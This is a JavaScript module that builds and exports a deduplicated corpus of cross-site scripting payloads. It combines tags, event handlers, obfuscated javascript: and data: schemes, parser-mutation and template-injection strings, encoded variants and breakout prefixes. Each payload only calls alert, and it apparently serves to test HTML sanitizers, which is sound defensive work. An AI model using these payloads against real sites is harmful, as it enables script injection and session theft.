// What people try to write into pages that are not theirs: markup that acts, in every dress that a page might
// undress. Each payload would call `alert`, which a page that lets it act cannot hide.

const CALLS = ['alert(1)', 'alert`1`', 'top.alert(1)', 'window["al"+"ert"](1)'];

const HANDLERS = [
  'onerror', 'onload', 'onclick', 'onfocus', 'onmouseover', 'onpointerenter', 'onanimationstart', 'ontransitionend', 'ontoggle',
  'onbeforetoggle', 'onscrollend', 'oncontentvisibilityautostatechange',
];

const TAGS = [
  'img src=x', 'svg', 'body', 'iframe', 'input autofocus', 'details open', 'video src=x', 'audio src=x', 'marquee', 'object data=x',
  'embed src=x', 'math', 'a href=# autofocus tabindex=1', 'button autofocus', 'select autofocus', 'textarea autofocus',
  'dialog open', 'custom-element tabindex=1 autofocus', 'style', 'link rel=stylesheet href=x',
];

const SCHEMES = [
  'javascript:', 'JaVaScRiPt:', 'java\tscript:', 'java\nscript:', '\u0001javascript:', ' javascript:', 'javascript&colon;', '&#106;avascript:',
  'data:text/html,<script>', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==,', 'vbscript:', 'blob:', 'filesystem:', 'view-source:javascript:',
];

const WHOLE = [
  '<script>alert(1)</script>', '<ScRiPt>alert(1)</sCrIpT>', '<script src=//example.invalid></script>', '<script/x>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>', '<svg><script>alert(1)</script></svg>', '<svg><script href=data:,alert(1) />',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>', '<form><button formaction=javascript:alert(1)>x</button></form>',
  '<iframe srcdoc="<script>alert(1)</script>">', '<base href=//example.invalid/>', '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<template><script>alert(1)</script></template>', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '<xmp><script>alert(1)</script></xmp>',
  '<plaintext><script>alert(1)</script>', '<![CDATA[<script>alert(1)</script>]]>', '<?xml version="1.0"?><script>alert(1)</script>',
  '<!--<img src="--><img src=x onerror=alert(1)//">', '<style>@import "javascript:alert(1)";</style>', '<style>*{background:url(javascript:alert(1))}</style>',
  '<div style="background:url(javascript:alert(1))">x</div>', '<p style="animation:x" onanimationstart=alert(1)>', '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}', '#{alert(1)}', '<%= alert(1) %>', '[x](javascript:alert(1))', '![x](javascript:alert(1))', '[x]: javascript:alert(1)\n[x]',
  '<a href="javascript:alert(1)">https://example.com</a>', '<slot name=x onslotchange=alert(1)>', '<sawt-poll poll="x"></sawt-poll>',
  '<div shadowrootmode=open><script>alert(1)</script></div>', '<portal src=javascript:alert(1)>', '<isindex type=image src=1 onerror=alert(1)>',
  '\u2028<script>alert(1)</script>', '\uFEFF<script>alert(1)</script>', '＜script＞alert(1)＜/script＞', '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '%3Cscript%3Ealert(1)%3C/script%3E', '&lt;script&gt;alert(1)&lt;/script&gt;', '&#60;script&#62;alert(1)&#60;/script&#62;', '\\x3cscript\\x3ealert(1)\\x3c/script\\x3e',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e', '<x onclick=alert(1)>مرحبًا</x>', 'مرحبًا "><img src=x onerror=alert(1)> بكم', '{"__proto__":{"x":"<img src=x onerror=alert(1)>"}}',
];

/** What a payload stands in, as if it had to break out of it first. */
const FRAMES = [
  (inner) => inner, (inner) => `">${inner}`, (inner) => `'>${inner}`, (inner) => `</textarea>${inner}`, (inner) => `</style>${inner}`,
  (inner) => `</script>${inner}`, (inner) => `-->${inner}`, (inner) => `]]>${inner}`, (inner) => `نص ${inner} نص`, (inner) => `${inner}\n\n${inner}`,
];

function* combined() {
  for (const [t, tag] of TAGS.entries()) {
    for (const [h, handler] of HANDLERS.entries()) {
      const call = CALLS[(t + h) % CALLS.length];
      const quote = ['', '"', "'"][(t * HANDLERS.length + h) % 3];
      yield `<${tag} ${handler}=${quote}${call}${quote}>`;
      yield `<${tag.toUpperCase()}/${handler}=${call}//`;
    }
  }
  for (const scheme of SCHEMES) {
    for (const call of CALLS) {
      yield `<a href="${scheme}${call}">x</a>`;
      yield `${scheme}${call}`;
      yield `https://example.com/?x=${scheme}${call}`;
      yield `<iframe src='${scheme}${call}'></iframe>`;
    }
  }
  yield* WHOLE;
}

/** All of them, each once. */
export const PAYLOADS = [...new Set([...combined()].flatMap((payload, at) => {
  const frames = [FRAMES[0], FRAMES[1 + (at % (FRAMES.length - 1))], FRAMES[1 + ((at * 7 + 3) % (FRAMES.length - 1))]];
  return frames.map((frame) => frame(payload));
}))];
